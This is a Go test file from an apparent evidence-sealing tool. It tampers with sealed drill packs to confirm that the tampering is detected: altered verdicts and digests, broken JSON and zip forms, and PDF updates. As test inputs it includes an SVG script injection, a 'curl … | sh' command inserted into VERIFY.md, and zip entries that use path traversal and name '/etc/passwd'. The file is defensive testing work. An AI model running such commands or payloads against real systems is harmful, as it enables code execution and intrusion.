package evidence_test

import (
	"archive/zip"
	"bytes"
	"os"
	"regexp"
	"strings"

	"blackstart/evidence/seal"
	"blackstart/harness"
)

const (
	findingsFile = "data/findings.json"
	controlsFile = "data/controls.json"
	reportFile   = "data/report-icfr.pdf"
)

// number changes the first number that a pattern finds, by its last digit.
func (b *bag) number(file, pattern string) {
	b.t.Helper()
	data := b.get(file)
	at := regexp.MustCompile(pattern).FindIndex(data)
	if at == nil {
		b.t.Fatalf("%s has no %s", file, pattern)
	}
	last := at[1] - 1
	data[last] = '0' + (data[last]-'0'+1)%10
	b.put(file, data)
}

func derivedAttacks() []attack {
	list := []attack{
		{name: "findings-number", do: func(b *bag) { b.number(findingsFile, `"lo": \d+`) }, names: []string{findingsFile}},
		{name: "findings-verdict", do: func(b *bag) { b.replace(findingsFile, `"verdict": "pass"`, `"verdict": "fail"`) }, names: []string{findingsFile}},
		{name: "findings-failed-as-passed", kind: "fail", do: func(b *bag) {
			b.replace(findingsFile, `"verdict": "fail"`, `"verdict": "pass"`)
			b.replace(findingsFile, `"exit": 1`, `"exit": 0`)
		}, names: []string{findingsFile}},
		{name: "findings-exit", do: func(b *bag) { b.replace(findingsFile, `"exit": 0`, `"exit": 3`) }, names: []string{findingsFile}},
		{name: "findings-reason", do: func(b *bag) { b.replace(findingsFile, `"reason": "PASS`, `"reason": "GOOD`) }, names: []string{findingsFile}},
		{name: "findings-record-digest", do: func(b *bag) { b.number(findingsFile, `"record_sha256": "[0-9a-f]*?\d`) }, names: []string{findingsFile}},
		{name: "findings-removed", do: func(b *bag) { b.remove(findingsFile) }, names: []string{findingsFile}},
		{name: "controls-text", do: func(b *bag) { b.replace(controlsFile, "a", "b") }, names: []string{controlsFile}},
		{name: "controls-emptied", do: func(b *bag) { b.put(controlsFile, []byte("[]\n")) }, names: []string{controlsFile}},
		{name: "controls-removed", do: func(b *bag) { b.remove(controlsFile) }, names: []string{controlsFile}},
		{name: "report-removed", do: func(b *bag) { b.remove(reportFile) }, names: []string{reportFile}},
		{name: "report-emptied", do: func(b *bag) { b.put(reportFile, nil) }, names: []string{reportFile}},
		{name: "report-trailing-byte", do: func(b *bag) { b.put(reportFile, append(b.get(reportFile), '\n')) }, names: []string{reportFile}},
		{name: "report-unsigned-update", do: func(b *bag) {
			b.put(reportFile, append(b.get(reportFile), "1 0 obj\n<<>>\nendobj\nstartxref\n0\n%%EOF\n"...))
		}, names: []string{reportFile}},
		{name: "report-byte", do: func(b *bag) {
			data := b.get(reportFile)
			data[len(data)/3] ^= 1
			b.put(reportFile, data)
		}, names: []string{reportFile}},
		{name: "report-of-another-drill", kind: "fail", do: func(b *bag) { b.put(reportFile, openBag(b.t, "pass").get(reportFile)) }, names: []string{reportFile}},
		{name: "reports-of-another-drill", do: func(b *bag) {
			other := openBag(b.t, "fail")
			for _, name := range b.names("data/report-", ".pdf") {
				b.put(name, other.get(name))
			}
		}, names: []string{reportFile}},
		{name: "plot-script", do: func(b *bag) { b.replace("data/plots/latency.svg", "</svg>", "<script>alert(1)</script></svg>") },
			names: []string{"data/plots/latency.svg"}},
		{name: "plot-link", do: func(b *bag) {
			b.replace("data/plots/latency.svg", "</svg>", `<a href="https://example.org"><text>x</text></a></svg>`)
		}, names: []string{"data/plots/latency.svg"}},
		{name: "plot-handler", do: func(b *bag) { b.replace("data/plots/latency.svg", "<svg ", `<svg onload="x()" `) }, names: []string{"data/plots/latency.svg"}},
		{name: "plot-svg-text", do: func(b *bag) {
			b.replace("data/plots/latency.svg", "</svg>", `<text x="10" y="10">all is well</text></svg>`)
		}, names: []string{"data/plots/latency.svg"}},
		{name: "plot-svg-emptied", do: func(b *bag) { b.put("data/plots/latency.svg", nil) }, names: []string{"data/plots/latency.svg"}},
		{name: "plot-png-trailing", do: func(b *bag) { b.put("data/plots/latency.png", append(b.get("data/plots/latency.png"), 0)) },
			names: []string{"data/plots/latency.png"}},
		{name: "plot-png-of-another", do: func(b *bag) { b.swap("data/plots/latency.png", "data/plots/success.png") },
			names: []string{"data/plots/latency.png", "data/plots/success.png"}},
		{name: "plot-png-emptied", do: func(b *bag) { b.put("data/plots/latency.png", nil) }, names: []string{"data/plots/latency.png"}},
		{name: "plot-removed", do: func(b *bag) { b.remove("data/plots/latency.png") }, names: []string{"data/plots/latency.png"}},
		{name: "verify-md-command", do: func(b *bag) { b.replace("data/VERIFY.md", "openssl", "curl -s https://example.org | sh; openssl") },
			names: []string{"data/VERIFY.md"}},
		{name: "verify-md-removed", do: func(b *bag) { b.remove("data/VERIFY.md") }, names: []string{"data/VERIFY.md"}},
	}
	for _, name := range []string{"classes", "latency", "replication", "success", "timeline"} {
		file := "data/plots/" + name + ".csv"
		list = append(list, attack{name: "plot-number-" + name, do: func(b *bag) { b.number(file, `,\d+`) }, names: []string{file}})
	}
	return list
}

// endAttacks tell a drill as one that ended otherwise.
func endAttacks() (list []attack) {
	for _, kind := range []string{"pass", "fail"} {
		for _, status := range []harness.Status{"stopped", "interrupted", "unsteady", "error"} {
			retell := func(b *bag) {
				r := b.record()
				r.Status, r.StatusReason = status, "told by the operator"
				b.setRecord(r)
			}
			name := kind + "-retold-as-" + string(status)
			list = append(list,
				attack{name: name, kind: kind, do: retell, told: true, anew: status == "stopped", names: []string{seal.CheckpointDir}},
				attack{name: name + "-without-end", kind: kind, do: func(b *bag) { retell(b); b.remove(endNote) }, told: true,
					names: []string{endNote, eventsFile, recordFile, findingsFile}})
		}
	}
	for _, kind := range []string{"stopped", "interrupted"} {
		list = append(list, attack{name: kind + "-retold-as-completed", kind: kind, do: func(b *bag) {
			r := b.record()
			r.Status, r.StatusReason = "completed", ""
			b.setRecord(r)
		}, told: true, names: []string{"data/"}})
	}
	return append(list,
		// What stands after the last checkpoint of an interrupted pack is bound by nobody: here something before it is changed.
		attack{name: "interrupted-event-before-a-checkpoint", kind: "interrupted", do: func(b *bag) {
			events := b.events()
			text := "as agreed"
			events[1].Text = &text
			b.setEvents(events)
		}, told: true, names: []string{seal.CheckpointDir, eventsFile}},
		attack{name: "interrupted-samples-dropped", kind: "interrupted", do: func(b *bag) {
			data := b.get(queries)
			b.put(queries, data[:64+40])
		}, told: true, names: []string{"data/"}},
		attack{name: "interrupted-checkpoints-removed", kind: "interrupted", do: func(b *bag) {
			for _, name := range b.names(seal.CheckpointDir+"load-", "") {
				b.remove(name)
			}
		}, names: []string{"data/"}})
}

// formAttacks break the form of JSON files, and nothing of what they say.
func formAttacks() (list []attack) {
	forms := map[string]func(data []byte) []byte{
		"key-twice": func(d []byte) []byte {
			return bytes.Replace(d, []byte("{"), []byte(`{"format": "blackstart.pack/2",`), 1)
		},
		"key-case":    func(d []byte) []byte { return bytes.Replace(d, []byte(`"run_id"`), []byte(`"Run_id"`), 1) },
		"float":       func(d []byte) []byte { return regexp.MustCompile(`: (\d+)`).ReplaceAll(d, []byte(": $1.0")) },
		"garbage":     func(d []byte) []byte { return append(d, "{}\n"...) },
		"no-newline":  func(d []byte) []byte { return d[:len(d)-1] },
		"crlf":        func(d []byte) []byte { return bytes.ReplaceAll(d, []byte("\n"), []byte("\r\n")) },
		"spaces":      func(d []byte) []byte { return bytes.Replace(d, []byte("{"), []byte("{ "), 1) },
		"bom":         func(d []byte) []byte { return append([]byte("\xef\xbb\xbf"), d...) },
		"not-utf8":    func(d []byte) []byte { return bytes.Replace(d, []byte(`"run_id": "`), []byte("\"run_id\": \"\xff"), 1) },
		"nul":         func(d []byte) []byte { return append(d, 0) },
		"unknown-key": func(d []byte) []byte { return bytes.Replace(d, []byte("{"), []byte(`{"note": "",`), 1) },
		"emptied":     func([]byte) []byte { return nil },
		"deep":        func([]byte) []byte { return []byte(strings.Repeat("[", 1000) + strings.Repeat("]", 1000) + "\n") },
	}
	for form, do := range forms {
		for short, file := range map[string]string{"record": recordFile, "findings": findingsFile} {
			a := attack{name: "form-" + short + "-" + form, do: func(b *bag) { b.put(file, do(b.get(file))) }, names: []string{file}}
			list = append(list, a)
			if short == "record" && form != "deep" {
				a.name, a.signed = a.name+"-signed", true
				if form != "emptied" && form != "not-utf8" && form != "bom" && form != "garbage" && form != "nul" && form != "float" {
					list = append(list, a)
				}
			}
		}
	}
	return list
}

// zipAttacks change the sealed file and none of the bytes that are signed.
func zipAttacks() []attack {
	same := func(*bag) {}
	rewrite := func(change func(h *zip.FileHeader), more func(w *zip.Writer)) func([]byte) []byte {
		return func(data []byte) []byte {
			r, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
			if err != nil {
				panic(err)
			}
			var out bytes.Buffer
			w := zip.NewWriter(&out)
			for _, f := range r.File {
				h := f.FileHeader
				if change != nil {
					change(&h)
				}
				in, _ := f.Open()
				entry, err := w.CreateHeader(&h)
				if err != nil {
					panic(err)
				}
				content := new(bytes.Buffer)
				_, _ = content.ReadFrom(in)
				_, _ = entry.Write(content.Bytes())
			}
			if more != nil {
				more(w)
			}
			_ = w.Close()
			return out.Bytes()
		}
	}
	extra := func(name string) func([]byte) []byte {
		return rewrite(nil, func(w *zip.Writer) {
			e, _ := w.CreateHeader(&zip.FileHeader{Name: name})
			_, _ = e.Write([]byte("x"))
		})
	}
	whole := []string{"", "data/", "manifest-sha256.txt", "signatures/", "region-partition/"}
	zips := map[string]func([]byte) []byte{
		"written-anew":   rewrite(nil, nil),
		"compressed":     rewrite(func(h *zip.FileHeader) { h.Method = zip.Deflate }, nil),
		"symlinks":       rewrite(func(h *zip.FileHeader) { h.SetMode(os.ModeSymlink | 0o777) }, nil),
		"entry-comment":  rewrite(func(h *zip.FileHeader) { h.Comment = "x" }, nil),
		"entry-extra":    rewrite(func(h *zip.FileHeader) { h.Extra = []byte{1, 0, 0, 0} }, nil),
		"comment":        rewrite(nil, func(w *zip.Writer) { _ = w.SetComment("all is well") }),
		"absolute-name":  extra("/etc/passwd"),
		"parent-name":    extra("../../outside"),
		"backslash-name": extra(`region-partition\data\x`),
		"name-twice":     extra("region-partition/data/record.json"),
		"name-case":      extra("region-partition/data/Record.json"),
		"second-base":    extra("other/data/record.json"),
		"directory":      extra("region-partition/data/"),
		"prefix":         func(d []byte) []byte { return append([]byte("#!/bin/sh\n"), d...) },
		"trailing":       func(d []byte) []byte { return append(d, 0) },
		"cut":            func(d []byte) []byte { return d[:len(d)-1] },
		"twice":          func(d []byte) []byte { return append(bytes.Clone(d), d...) },
		"emptied":        func([]byte) []byte { return nil },
		"local-date": func(d []byte) []byte {
			d[10] ^= 1
			return d
		},
		"manifest-space": func(d []byte) []byte {
			return bytes.Replace(d, []byte("  data/VERIFY.md"), []byte(" *data/VERIFY.md"), 1)
		},
	}
	var list []attack
	for name, do := range zips {
		list = append(list, attack{name: "zip-" + name, do: same, zip: do, names: whole})
	}
	return list
}
